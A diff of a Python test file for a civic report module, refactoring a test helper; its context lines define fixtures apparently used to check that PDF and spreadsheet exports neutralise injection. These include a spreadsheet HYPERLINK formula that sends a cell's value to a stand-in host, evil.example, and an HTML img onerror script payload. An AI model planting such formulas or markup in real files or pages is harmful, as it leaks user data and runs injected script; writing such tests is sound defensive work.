@@ -12,7 +12,7 @@ from pypdf import PdfReader
 
 from civicgrid.assessment.reports import build_report, render_pdf, render_xlsx
 from civicgrid.assessment.rollup import rollup
-from civicgrid.assessment.tests.history import DAY, handled_case
+from civicgrid.assessment.tests.history import DAY, crew, handled_case
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 MARKUP = "<img src=x onerror=alert(1)>社区"
@@ -28,12 +28,7 @@ def report(city, users):
     for on_time in (True, False):
         handled_case(
             grid.code,
-            reporter=users.worker,
-            desk=users.secretary,
-            command=users.command,
-            handler=users.department,
-            checker=users.cadre,
-            dept=users.dept,
+            **crew(users),
             fed_back_on_time=on_time,
         )
     rollup(DAY - timedelta(days=1), DAY + timedelta(days=1))
